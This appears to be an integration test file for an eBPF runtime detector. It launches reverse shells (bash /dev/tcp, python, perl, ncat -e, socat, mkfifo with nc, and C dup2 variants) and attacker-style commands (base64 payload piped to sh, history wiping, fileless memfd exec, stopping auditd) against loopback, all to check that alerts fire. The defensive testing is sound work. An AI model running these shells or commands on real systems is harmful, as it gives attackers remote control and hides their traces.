"""detect against the real kernel: a corpus of reverse shells, each connecting to a listener
this test runs on loopback, must each raise exactly one alert of the expected rule, within a
second, naming the process the test started (or a descendant of it); a benign corpus (socat
port forwarding, curl against a python http.server through it) raises none."""

from __future__ import annotations

import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time

import pytest

from helpers import RunningTool, alerts_within, bpf_objects_held_by, ek, hooks_held_by, still_in_kernel
from ebpfkit.tools import detect

pytestmark = [
    pytest.mark.integration,
    pytest.mark.skipif(os.geteuid() != 0, reason="loads BPF programs: needs root"),
]

REVERSE_SHELL = "Reverse shell"
NETCAT = "Netcat or socat runs a command"
NAMED_PIPE = "Shell relayed through a named pipe"
TECHNIQUE_PRIORITY = {REVERSE_SHELL: (("T1059.004",), "CRITICAL"), NAMED_PIPE: (("T1059.004",), "CRITICAL"),
                      NETCAT: (("T1059",), "WARNING")}

C_DUP2 = r"""
#include <arpa/inet.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>
int main(int argc, char **argv) {
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[1]))};
    int s = socket(AF_INET, SOCK_STREAM, 0);
    inet_pton(AF_INET, "127.0.0.1", &a.sin_addr);
    if (connect(s, (struct sockaddr *)&a, sizeof(a))) return 1;
#if defined(USE_FCNTL)
    for (int fd = 0; fd < 3; fd++) { close(fd); fcntl(s, F_DUPFD, fd); }
#elif defined(USE_DUP)
    for (int fd = 0; fd < 3; fd++) { close(fd); dup(s); }
#else
    for (int fd = 0; fd < 3; fd++) dup2(s, fd);
#endif
    execl("/bin/sh", "sh", "-i", (char *)0);
    return 1;
}
"""


class Listener:
    """A TCP listener on loopback: each connection gets `exit` (a shell on the other end
    ends) and is closed."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self.accepted_at: list[float] = []  # time.monotonic() of each connection's accept
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self):
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.accepted_at.append(time.monotonic())
            self.connections += 1
            try:
                conn.sendall(b"exit\n")
                time.sleep(0.3)
            except OSError:
                pass
            conn.close()

    def close(self):
        self.sock.close()


@pytest.fixture(scope="module")
def session():
    with detect.open() as s:
        yield s


@pytest.fixture(scope="module")
def listener():
    server = Listener()
    yield server
    server.close()


@pytest.fixture(scope="module")
def c_shells(tmp_path_factory):
    """The C reverse shell built three ways: dup2, fcntl(F_DUPFD) and dup."""
    d = tmp_path_factory.mktemp("revshell")
    src = d / "revshell.c"
    src.write_text(C_DUP2)
    built = {}
    for name, define in (("dup2", []), ("fcntl", ["-DUSE_FCNTL", "-include", "fcntl.h"]), ("dup", ["-DUSE_DUP"])):
        out = d / f"revshell_{name}"
        subprocess.run(["gcc", "-O1", *define, "-o", str(out), str(src)], check=True)
        built[name] = str(out)
    return built


def variants(port: int, c_shells: dict) -> dict[str, tuple[list[str], str]]:
    """name -> (argv, the rule that must catch it)."""
    py = sys.executable
    fifo = os.path.join(os.path.dirname(c_shells["dup2"]), "f")
    return {
        "bash /dev/tcp": (["bash", "-c", f"bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"], REVERSE_SHELL),
        "bash exec redirections": (["bash", "-c", f"exec 0<>/dev/tcp/127.0.0.1/{port}; exec 1>&0 2>&0; "
                                                  f"exec /bin/sh"], REVERSE_SHELL),
        "sh with socket stdio": (["bash", "-c", f"exec 5<>/dev/tcp/127.0.0.1/{port}; sh <&5 >&5 2>&5"],
                                 REVERSE_SHELL),
        "python pty.spawn": ([py, "-c", "import os,pty,socket\ns=socket.create_connection(('127.0.0.1',"
                              f"{port}))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn('/bin/sh')"],
                             REVERSE_SHELL),
        "python subprocess": ([py, "-c", "import socket,subprocess\ns=socket.create_connection(('127.0.0.1',"
                               f"{port}))\nsubprocess.call(['/bin/sh','-i'],stdin=s,stdout=s,stderr=s)"],
                              REVERSE_SHELL),
        "python connect on fd 0": ([py, "-c", "import os,socket\nos.close(0)\ns=socket.socket()\n"
                                    f"s.connect(('127.0.0.1',{port}))\ns.recv(10)"], REVERSE_SHELL),
        "perl": (["perl", "-e", "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));"
                  f"connect(S,sockaddr_in({port},inet_aton('127.0.0.1')));open(STDIN,'>&S');"
                  "open(STDOUT,'>&S');open(STDERR,'>&S');exec('/bin/sh -i');"], REVERSE_SHELL),
        # ncat and socat relay through pipes or a socketpair: no socket on the shell's stdio
        "ncat -e": (["ncat", "-e", "/bin/sh", "127.0.0.1", str(port)], NETCAT),
        "socat exec": (["socat", f"TCP:127.0.0.1:{port}", "EXEC:/bin/sh"], NETCAT),
        # the shell's stdio are pipes, the socket is nc's, a named pipe closes the loop
        "mkfifo and nc": (["bash", "-c", f"rm -f {fifo}; mkfifo {fifo}; cat {fifo} | sh -i 2>&1 | "
                                         f"nc 127.0.0.1 {port} > {fifo}"], NAMED_PIPE),
        "C dup2": ([c_shells["dup2"], str(port)], REVERSE_SHELL),
        "C fcntl F_DUPFD": ([c_shells["fcntl"], str(port)], REVERSE_SHELL),
        "C dup": ([c_shells["dup"], str(port)], REVERSE_SHELL),
    }


def _descends(alert, pid: int) -> bool:
    """The alert names ``pid`` or a process under it."""
    return pid in (alert.pid, *alert.pids) or any(p == pid for p, _ in alert.process_tree)


CORPUS = ["bash /dev/tcp", "bash exec redirections", "sh with socket stdio", "python pty.spawn",
          "python subprocess", "python connect on fd 0", "perl", "ncat -e", "socat exec", "C dup2",
          "C fcntl F_DUPFD", "C dup", "mkfifo and nc"]


@pytest.mark.parametrize("name", CORPUS)
def test_each_reverse_shell_raises_one_alert_within_a_second(session, listener, c_shells, name):
    """Within a second of the shell's connection reaching the listener: the time the shell's
    own program takes to start (seconds for an interpreter under emulation) is not detect's."""
    argv, rule = variants(listener.port, c_shells)[name]
    alerts_within(session, 0.3)  # whatever came before this variant
    connections = listener.connections
    started = time.monotonic()
    proc = subprocess.Popen(argv, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    alerts = []
    try:
        while time.monotonic() - started < 20 and not any(a.rule == rule for a in alerts):
            alerts += session.poll(20)
        found = time.monotonic()
        alerts += alerts_within(session, 1.0)  # anything more it raises
        proc.wait(10)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    assert listener.connections > connections, f"{name} never connected"
    ours = [a for a in alerts if a.rule == rule and _descends(a, proc.pid)]
    assert len(ours) == 1, (name, [(a.rule, a.pid, a.signals) for a in alerts])
    found_at = found - listener.accepted_at[connections]
    assert found_at < 1.0, f"{name}: the alert came {found_at:.2f} s after the connection"
    alert = ours[0]
    assert (alert.techniques, alert.priority) == TECHNIQUE_PRIORITY[rule]


@pytest.fixture(scope="module")
def named(tmp_path_factory):
    """named(NAME, like="/bin/true"): a copy of a program under another name (the kernel's comm
    of its process is that name), for rules that go by the program's name."""
    d = tmp_path_factory.mktemp("named")

    def make(name: str, like: str = "/bin/true") -> str:
        path = d / name
        if not path.exists():
            shutil.copy(like, path)
        return str(path)
    return make


def command_lines(named) -> dict[str, tuple[list[str], str]]:
    """name -> (argv, the rule it must raise); run from a shell that does not exec in place."""
    def shell(line: str) -> list[str]:
        return ["bash", "-c", f"{line}; true"]
    return {
        "base64 payload": (["bash", "-c", "echo dHJ1ZQo= | base64 -d | sh"], "Decoded payload run by a shell"),
        "history cleared": (["bash", "-c", "history -c; unset HISTFILE"], "Shell history cleared"),
        "mining pool": (["sh", "-c", "true --url stratum+tcp://pool.invalid:3333"], "Mining pool in a command line"),
        "inline python socket": ([sys.executable, "-c", "import socket; socket.socket().close()"],
                                 "Interpreter runs inline network code"),
        "shell under mysqld": ([named("mysqld", "/bin/bash"), "-c", "sh -c true; true"], "Shell under a database server"),
        "shell under nginx": ([named("nginx", "/bin/bash"), "-c", "sh -c true; true"], "Shell under a web server"),
        "modprobe from a shell": (shell(f"{named('modprobe')} -n dummy"), "Kernel module loaded from a shell"),
        "crontab edit": (shell(f"{named('crontab')} -e"), "Scheduled task changed"),
        "useradd": (shell(f"{named('useradd')} mallory"), "User account changed"),
        "auditd stopped": (shell(f"{named('systemctl')} stop auditd"), "Security service stopped"),
        "logs removed": (["rm", "-f", "/var/log/ebpfkit-test-no-such-file"], "System logs removed"),
        "program in /dev/shm": (["sh", "-c", "cp /bin/true /dev/shm/ebpfkit-test-true && "
                                 "/dev/shm/ebpfkit-test-true; rm -f /dev/shm/ebpfkit-test-true"],
                                "Program run from shared memory"),
    }


@pytest.mark.parametrize("name", ["base64 payload", "history cleared", "mining pool", "inline python socket",
                                  "shell under mysqld", "shell under nginx", "modprobe from a shell", "crontab edit",
                                  "useradd", "auditd stopped", "logs removed", "program in /dev/shm"])
def test_each_command_line_rule_raises_its_alert(session, named, name):
    argv, rule = command_lines(named)[name]
    alerts_within(session, 0.3)
    proc = subprocess.run(argv, stdin=subprocess.DEVNULL, capture_output=True, timeout=30)
    assert proc.returncode == 0, proc.stderr
    alerts = alerts_within(session, 0.5)
    assert [a.rule for a in alerts].count(rule) == 1, (name, [(a.rule, a.output) for a in alerts])
    assert all(a.techniques for a in alerts)


def test_listing_crontab_is_no_change(session, named):
    alerts_within(session, 0.3)
    subprocess.run(["bash", "-c", f"{named('crontab')} -l; true"], check=True)
    assert [a.rule for a in alerts_within(session, 0.5) if a.rule == "Scheduled task changed"] == []


def test_benign_network_programs_raise_nothing(session, tmp_path):
    """socat forwarding a port to a python http.server, and curl fetching through it."""
    (tmp_path / "index.html").write_text("hello")
    backend = socket.socket()
    backend.bind(("127.0.0.1", 0))
    backend_port = backend.getsockname()[1]
    backend.close()
    front = socket.socket()
    front.bind(("127.0.0.1", 0))
    front_port = front.getsockname()[1]
    front.close()
    alerts_within(session, 0.3)
    procs = [subprocess.Popen([sys.executable, "-m", "http.server", "-b", "127.0.0.1", str(backend_port)],
                              cwd=tmp_path, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL),
             subprocess.Popen(["socat", f"TCP-LISTEN:{front_port},bind=127.0.0.1,reuseaddr,fork",
                               f"TCP:127.0.0.1:{backend_port}"], stdout=subprocess.DEVNULL,
                              stderr=subprocess.DEVNULL)]
    alerts = []
    try:
        fetched = 0
        deadline = time.monotonic() + 10
        while fetched < 5 and time.monotonic() < deadline:
            got = subprocess.run(["curl", "-s", f"http://127.0.0.1:{front_port}/index.html"],
                                 capture_output=True, text=True)
            fetched += got.stdout == "hello"
            alerts += session.poll(50)
        alerts += alerts_within(session, 0.5)
        assert fetched == 5
    finally:
        for p in procs:
            p.terminate()
            p.wait(10)
    ours = [a for a in alerts if any(_descends(a, p.pid) for p in procs) or "curl" in a.output]
    assert ours == [], [(a.rule, a.output) for a in ours]


def test_cli_json_alert_and_check_and_rules(capsys, listener, tmp_path):
    tool = RunningTool("--format", "json", "detect", "run")
    try:
        subprocess.run([sys.executable, "-c", "import os,socket\ns=socket.create_connection(('127.0.0.1',"
                        f"{listener.port}))\nos.dup2(s.fileno(),1)\nos.dup2(s.fileno(),0)"], check=True)
        time.sleep(1.0)
        out = tool.stop()
    finally:
        tool.kill()
    assert tool.returncode == 0, tool.stderr
    alerts = [json.loads(line) for line in out.splitlines()]
    shell = [a for a in alerts if a["rule"] == REVERSE_SHELL]
    assert len(shell) == 1 and shell[0]["signals"] == ["dup2", "dup2"], alerts
    assert shell[0]["event"]["fd.type"] == "ipv4" and shell[0]["techniques"] == ["T1059.004"]

    rc, out, _ = ek(capsys, "--format", "json", "detect", "rules")
    listed = {r["rule"]: r for r in json.loads(out)["rules"]}
    assert rc == 0 and listed[REVERSE_SHELL]["techniques"] == ["T1059.004"]
    assert all(r["techniques"] for r in listed.values())

    mine = tmp_path / "local.yaml"
    mine.write_text("- list: shell_binaries\n  items: [myshell]\n  append: true\n"
                    "- rule: Reverse shell\n  enabled: false\n")
    rc, _, err = ek(capsys, "detect", "check", str(mine))
    assert rc == 0 and "valid" in err
    rc, out, _ = ek(capsys, "--format", "json", "detect", "rules", "--rules", str(mine))
    assert {r["rule"]: r["enabled"] for r in json.loads(out)["rules"]}[REVERSE_SHELL] is False


FILELESS = ("import os\nfd = os.memfd_create('payload')\nos.write(fd, open('/bin/true', 'rb').read())\n"
            "os.execv(f'/proc/self/fd/{fd}', ['payload'])")


@pytest.mark.skipif(not (shutil.which("nginx") and shutil.which("wrk")), reason="needs nginx and wrk")
def test_nginx_under_wrk_raises_nothing(session, child_cgroup):
    """Three nginx processes (a balancer and two web servers) under two seconds of wrk."""
    from ebpfkit.tools.sockmap import bench

    alerts_within(session, 0.3)  # whatever came before
    result = bench.nginx_wrk(child_cgroup, 2.0)
    alerts = alerts_within(session, 1.0)
    assert result["req_per_s"] > 100 and len(result["backends_seen"]) == 2, result
    assert alerts == [], [(a.rule, a.output) for a in alerts]


SSHD_CONFIG = """Port {port}
ListenAddress 127.0.0.1
HostKey {dir}/host_key
AuthorizedKeysFile {dir}/authorized_keys
PermitRootLogin prohibit-password
PasswordAuthentication no
KbdInteractiveAuthentication no
UsePAM no
StrictModes no
PidFile none
"""
PRIVSEP_DIR = "/run/sshd"  # sshd refuses to start without it (the package's service makes it)


@pytest.fixture
def sshd(tmp_path):
    """An sshd of the test's own on a loopback port (own host key, config and authorized key),
    and the argv of an ssh client logging in to it as root with the test's key."""
    for key in ("host_key", "client_key"):
        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", tmp_path / key], check=True)
    (tmp_path / "authorized_keys").write_text((tmp_path / "client_key.pub").read_text())
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    (tmp_path / "sshd_config").write_text(SSHD_CONFIG.format(port=port, dir=tmp_path))
    made_privsep = not os.path.isdir(PRIVSEP_DIR)
    if made_privsep:
        os.makedirs(PRIVSEP_DIR, mode=0o755)
    # root's account may be locked ("!": Ubuntu's default, and this VM harness's guests), and
    # sshd without PAM then refuses it even a key: this sshd sees a copy of /etc/shadow where
    # root's password is "*" (no password, not locked), bound over it in a mount namespace of its
    # own (the machine's file is not touched)
    with open("/etc/shadow") as f:
        shadow = f.read()
    (tmp_path / "shadow").write_text(re.sub(r"^root:[^:]*:", "root:*:", shadow, flags=re.M))
    argv = ["unshare", "--mount", "--propagation", "private", "--", "sh", "-c",
            'mount --bind "$0" /etc/shadow && exec "$@"', str(tmp_path / "shadow"),
            "/usr/sbin/sshd", "-D", "-e", "-f", str(tmp_path / "sshd_config")]
    server = subprocess.Popen(argv, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + 10
        while True:
            try:
                socket.create_connection(("127.0.0.1", port), timeout=1).close()
                break
            except OSError:
                assert server.poll() is None and time.monotonic() < deadline, server.stderr.read()
                time.sleep(0.05)
        yield server, ["ssh", "-p", str(port), "-i", str(tmp_path / "client_key"), "-o", "BatchMode=yes",
                       "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
                       "-o", "LogLevel=ERROR", "root@127.0.0.1"]
    finally:
        server.terminate()
        server.wait(10)
        if made_privsep:
            os.rmdir(PRIVSEP_DIR)


def test_ssh_to_a_local_sshd_raises_nothing(session, sshd):
    """Commands run over ssh, with and without a terminal, and a file copied through it: the
    server's shells have sockets and pipes around them, and none of that is a reverse shell."""
    server, ssh = sshd
    alerts_within(session, 0.3)  # whatever came before
    runs = [subprocess.run(ssh + ["echo ok; uname -r > /dev/null; ls / > /dev/null"], capture_output=True,
                           text=True, timeout=60),
            subprocess.run(ssh[:1] + ["-tt"] + ssh[1:] + ["echo ok"], capture_output=True, text=True,
                           timeout=60, stdin=subprocess.DEVNULL),
            subprocess.run(ssh + ["cat > /dev/null"], input="data\n" * 1000, capture_output=True, text=True,
                           timeout=60)]
    alerts = alerts_within(session, 1.0)
    if any(r.returncode for r in runs):
        server.terminate()
        pytest.fail(f"ssh: {[r.stderr for r in runs]}; sshd said: {server.communicate(timeout=10)[1][-3000:]}")
    assert runs[0].stdout == "ok\n" and "ok" in runs[1].stdout
    ours = [a for a in alerts if _descends(a, server.pid) or "ssh" in a.output]
    assert ours == [], [(a.rule, a.output) for a in ours]


# Connects on fd 0 (each an event the rules want) for argv[1] seconds or until SIGTERM, as fast
# as C makes them, then prints how many it made. In C, not Python: a flood must outrun the limit
# under emulation too (~10x slower).
C_FLOODER = r"""
#include <arpa/inet.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>
static volatile sig_atomic_t stop;
static void on_term(int sig) { stop = 1; }
static double now(void) { struct timespec t; clock_gettime(CLOCK_MONOTONIC, &t); return t.tv_sec + t.tv_nsec / 1e9; }
int main(int argc, char **argv) {
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(1)};
    double end = now() + atof(argv[1]);
    long made = 0;
    signal(SIGTERM, on_term);
    inet_pton(AF_INET, "127.0.0.1", &a.sin_addr);
    close(0);
    for (; !stop && now() < end; made++) {
        int s = socket(AF_INET, SOCK_STREAM, 0);  /* fd 0: the lowest free */
        connect(s, (struct sockaddr *)&a, sizeof(a));
        close(s);
    }
    printf("%ld\n", made);
    return 0;
}
"""


@pytest.fixture(scope="module")
def flooder(tmp_path_factory) -> str:
    d = tmp_path_factory.mktemp("flooder")
    (d / "flooder.c").write_text(C_FLOODER)
    subprocess.run(["gcc", "-O1", "-o", str(d / "flooder"), str(d / "flooder.c")], check=True)
    return str(d / "flooder")


# The flood tests' limit (`--throttle`; 2000 a second by default): the kernel side counts and
# holds back the same way at any limit, and at this one detect's reader keeps up with what gets
# through on a machine ten times slower (emulation) as on this one, so the tests judge the throttle.
THROTTLE = 200


@pytest.fixture(scope="module")
def throttling():
    with detect.open(throttle=THROTTLE) as s:
        yield s


def test_a_flooding_process_is_throttled_and_blinds_nothing(throttling, listener, c_shells, flooder):
    """One process sending thousands of events a second gets THROTTLE of them through each second;
    the rest are counted, and reported once its second is over. A reverse shell started in the
    middle of the flood is still caught (the flood used up only its own alerts), and nothing is
    lost."""
    alerts_within(throttling, 0.3)  # whatever came before
    lost, throttled = throttling.lost, throttling.throttled
    began = time.monotonic()
    flooding = subprocess.Popen([flooder, "120"], stdout=subprocess.PIPE, text=True)
    alerts = alerts_within(throttling, 0.2)
    shell = subprocess.run([c_shells["dup2"], str(listener.port)], timeout=30, capture_output=True)
    in_the_flood = flooding.poll() is None
    flooding.terminate()  # the shell has run its course, inside the flood
    while flooding.poll() is None:
        alerts += throttling.poll(50)
    seconds = time.monotonic() - began
    held = throttling.throttled - throttled
    deadline = time.monotonic() + 30  # the reports come once each flooded second is over, and the
    # shell's alert once its fusing window is (CI: the flood ended within that window once); under
    # emulation, once detect has caught up with the events let through
    while (sum(a.event["held"] for a in alerts if a.rule == "Events throttled") < held
           or not any(a.rule == REVERSE_SHELL and a.pid != flooding.pid for a in alerts)) and \
            time.monotonic() < deadline:
        alerts += throttling.poll(50)
    made = int(flooding.stdout.read())
    assert flooding.returncode == 0 and shell.returncode == 0 and in_the_flood
    assert throttling.lost == lost, "nothing lost: the flood was throttled at its source"
    assert made - THROTTLE * (int(seconds) + 2) <= held <= made and held > THROTTLE, (held, made, seconds)
    reports = [a for a in alerts if a.rule == "Events throttled"]
    assert {a.pid for a in reports} == {flooding.pid} and all(a.event["limit"] == THROTTLE for a in reports), reports
    assert sum(a.event["held"] for a in reports) == held, (reports, held)
    caught = [a for a in alerts if a.rule == REVERSE_SHELL and a.pid != flooding.pid]
    assert len(caught) == 1 and caught[0].event["proc.name"].startswith("revshell"), \
        [(a.rule, a.pid, a.output) for a in alerts if a.rule != "Events throttled"]


def test_throttled_seconds_detect_did_not_look_at_are_still_reported(throttling, flooder):
    """A flood over three seconds while detect reads nothing (a busy or stalled reader): every
    event held back is still reported, against the flooder (the kernel keeps its running total)."""
    alerts_within(throttling, 0.3)
    throttled = throttling.throttled
    flooding = subprocess.Popen([flooder, "3"], stdout=subprocess.DEVNULL)
    flooding.wait(timeout=30)
    held = throttling.throttled - throttled
    alerts, deadline = [], time.monotonic() + 30  # as soon as they add up (later under emulation)
    while sum(a.event["held"] for a in alerts if a.rule == "Events throttled") < held and \
            time.monotonic() < deadline:
        alerts += throttling.poll(50)
    reports = [a for a in alerts if a.rule == "Events throttled"]
    assert flooding.returncode == 0 and held > THROTTLE, held  # more than one second's worth held back
    assert {a.pid for a in reports} == {flooding.pid}, reports
    assert sum(a.event["held"] for a in reports) == held, (reports, held)


def test_a_flood_that_goes_on_is_reported_as_it_goes(throttling, flooder):
    """A flood while detect polls: its held events are reported about once a second while it
    lasts (two reports before it is stopped), not once at its end, and the reports add up to
    what was held."""
    alerts_within(throttling, 0.3)
    throttled = throttling.throttled
    flooding = subprocess.Popen([flooder, "30"], stdout=subprocess.DEVNULL)
    during = []
    while flooding.poll() is None and sum(a.rule == "Events throttled" for a in during) < 2:
        during += throttling.poll(50)
    still_flooding = flooding.poll() is None
    flooding.terminate()  # two reports while it went on (after 2 s here; later under emulation)
    flooding.wait(timeout=30)
    held = throttling.throttled - throttled
    alerts, deadline = list(during), time.monotonic() + 30
    while sum(a.event["held"] for a in alerts if a.rule == "Events throttled") < held and \
            time.monotonic() < deadline:
        alerts += throttling.poll(50)
    reports = [a for a in alerts if a.rule == "Events throttled"]
    assert still_flooding and len([a for a in during if a.rule == "Events throttled"]) >= 2, (reports, held)
    assert {a.pid for a in reports} == {flooding.pid}, reports
    assert sum(a.event["held"] for a in reports) == held, (reports, held)


def free_port(family=socket.AF_INET, host="127.0.0.1") -> int:
    with socket.socket(family) as s:
        s.bind((host, 0))
        return s.getsockname()[1]


def test_a_connection_accepted_onto_stdin_is_a_reverse_shell(session):
    """A bind shell's way: a listener with fd 0 closed, so accept() puts the connection there."""
    port = free_port()
    alerts_within(session, 0.3)  # whatever came before
    proc = subprocess.Popen([sys.executable, "-c", "import os,socket\ns=socket.socket()\n"
                             f"s.bind(('127.0.0.1',{port}))\ns.listen(1)\nprint(flush=True)\nos.close(0)\n"
                             "c,_=s.accept()\nassert c.fileno()==0\nc.recv(10)"],
                            stdin=subprocess.DEVNULL, stdout=subprocess.PIPE)
    try:
        proc.stdout.readline()  # listening
        with socket.create_connection(("127.0.0.1", port)) as client:
            client_port = client.getsockname()[1]
            client.sendall(b"exit\n")
        assert proc.wait(10) == 0
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    alerts = [a for a in alerts_within(session, 1.0, REVERSE_SHELL) if a.pid == proc.pid]
    assert [(a.event["evt.type"], a.event["fd.num"], a.event["fd.name"]) for a in alerts] == [
        ("accept4", 0, f"127.0.0.1:{client_port}")], alerts


SOCKET_RULES = """
- rule: Bound here
  condition: evt.type = bind and fd.lport = {port}
  output: "%proc.name bound %fd.name (local %fd.lip, remote %fd.rip) on fd %fd.num"
  priority: NOTICE
- rule: Accepted here
  condition: evt.type in (accept, accept4) and fd.rport = {client_port}
  output: "%proc.name accepted %fd.name (local %fd.lip, remote %fd.rip) on fd %fd.num"
  priority: NOTICE
"""


@pytest.mark.parametrize("family, host", [(socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")],
                         ids=["ipv4", "ipv6"])
def test_bind_and_accept_carry_the_address_and_the_new_fd(tmp_path, family, host):
    port, client_port = free_port(family, host), free_port(family, host)
    rules = tmp_path / "sockets.yaml"
    rules.write_text(SOCKET_RULES.format(port=port, client_port=client_port))
    with detect.open(rules=(str(rules),), builtin=False) as session:
        with socket.socket(family) as server, socket.socket(family) as client:
            server_fd = server.fileno()
            server.bind((host, port))
            server.listen(1)
            client.bind((host, client_port))
            client.connect((host, port))
            conn, _ = server.accept()
            accepted_fd = conn.fileno()
            conn.close()
        alerts = alerts_within(session, 1.0, "Bound here", "Accepted here")
    seen = sorted((a.rule, a.pid, a.event["evt.type"], a.event["fd.name"], a.event["fd.num"],
                   a.event.get("fd.lip"), a.event.get("fd.rip")) for a in alerts)  # a field with no value is left out
    name = f"{host}:{{}}"
    assert seen == [("Accepted here", os.getpid(), "accept4", name.format(client_port), accepted_fd, None, host),
                    ("Bound here", os.getpid(), "bind", name.format(port), server_fd, host, None)]


def test_pipes_and_named_pipes_alone_raise_nothing(session, tmp_path):
    fifo = tmp_path / "f"
    alerts_within(session, 0.3)  # whatever came before
    for script in ("echo exit | sh -i", f"mkfifo {fifo}; (cat {fifo} > /dev/null &); echo hi > {fifo}; wait",
                   f"printf 'exit\\n' > {tmp_path}/in; sh -i < {tmp_path}/in"):
        assert subprocess.run(["bash", "-c", script], capture_output=True, timeout=30).returncode == 0
    alerts = alerts_within(session, 1.0)
    assert [a for a in alerts if a.rule in (NAMED_PIPE, REVERSE_SHELL)] == []


def test_the_alert_log_keeps_what_was_raised_and_log_follows_it(capsys, tmp_path):
    path = tmp_path / "alerts" / "detect.log"
    tool = RunningTool("--format", "json", "detect", "run", "--alert-log", str(path))
    try:
        first = subprocess.Popen([sys.executable, "-c", FILELESS])
        first.wait(timeout=30)
        time.sleep(0.5)
        printed = [json.loads(line) for line in tool.stop().splitlines()]
    finally:
        tool.kill()
    assert first.returncode == 0 and tool.returncode == 0, tool.stderr
    rc, out, _ = ek(capsys, "--format", "json", "detect", "log", "--alert-log", str(path))
    kept = [json.loads(line) for line in out.splitlines()]
    assert rc == 0 and kept == printed and [a["rule"] for a in kept] == ["Fileless execution"]
    assert kept[0]["pid"] == first.pid

    follower = subprocess.Popen([sys.executable, "-m", "ebpfkit", "--format", "json", "detect", "log", "-f",
                                 "--alert-log", str(path)], stdout=subprocess.PIPE, text=True)
    tool = RunningTool("detect", "run", "--alert-log", str(path))
    try:
        assert json.loads(follower.stdout.readline())["pid"] == first.pid   # what was kept
        second = subprocess.Popen([sys.executable, "-c", FILELESS])
        second.wait(timeout=30)
        followed = json.loads(follower.stdout.readline())                    # then as it comes
        tool.stop()
    finally:
        tool.kill()
        follower.kill()
        follower.wait()
    assert (followed["rule"], followed["pid"]) == ("Fileless execution", second.pid)

    rc, _, err = ek(capsys, "detect", "log", "--alert-log", str(tmp_path / "none.log"))
    assert rc == 2 and "no alert log at" in err
    rc, _, err = ek(capsys, "detect", "run", "--alert-log", "/proc/no/such/detect.log")
    assert rc == 2 and "--alert-log" in err and "cannot write /proc/no/such/detect.log" in err


@pytest.mark.parametrize("content, message", [
    ("- rule: r\n  condition: proc.nam = bash\n  output: x\n  priority: INFO\n", ":2: rule 'r': unknown field"),
    ("- rule: r\n  condition: evt.type = execve\n  output: x\n  priority: LOUD\n", ":4: rule 'r': priority"),
    ("- rule: r\n  condition: evt.type = execve\n  output: x\n  priority: INFO\n  fuse: nope\n",
     ":5: rule 'r': fuse names 'nope'"),
    ("- rule: r\n  condition: (evt.type = execve\n  output: x\n  priority: INFO\n", ":2: rule 'r': the condition"),
])
def test_bad_rule_files_exit_2_naming_the_line(capsys, tmp_path, content, message):
    bad = tmp_path / "bad.yaml"
    bad.write_text(content)
    for args in (["detect", "check", str(bad)], ["detect", "run", "--rules", str(bad)]):
        rc, _, err = ek(capsys, *args)
        assert rc == 2 and f"{bad}{message}" in err and "Traceback" not in err, err


def test_a_missing_rules_file_exits_2(capsys, tmp_path):
    rc, _, err = ek(capsys, "detect", "run", "--rules", str(tmp_path / "none.yaml"))
    assert rc == 2 and "does not exist" in err


@pytest.mark.parametrize("sig, code", [(signal.SIGINT, 0), (signal.SIGKILL, -signal.SIGKILL)])
def test_a_signal_leaves_nothing_attached(sig, code):
    from ebpfkit.engine import features
    from ebpfkit.tools.detect.session import WATCHED_CALLS

    # exec, connect, bind, accept and accept4 (exits), dup2, dup3, dup and fcntl (entry and exit),
    # and a hook per watched call it has (the built-in rules watch no file unless switched on);
    # syscall tracepoints: a bpf_link each from 5.15, a perf event fd each before
    hooks = 11 + sum(features.have_tracepoint("syscalls", f"sys_enter_{c}") for c in WATCHED_CALLS)
    tool = RunningTool("detect", "run")
    try:
        held = bpf_objects_held_by(tool.pid)
        assert hooks_held_by(tool.pid) == hooks, held
        tool.stop(sig)
    finally:
        tool.kill()
    assert tool.returncode == code, tool.stderr
    assert still_in_kernel(held) == set()
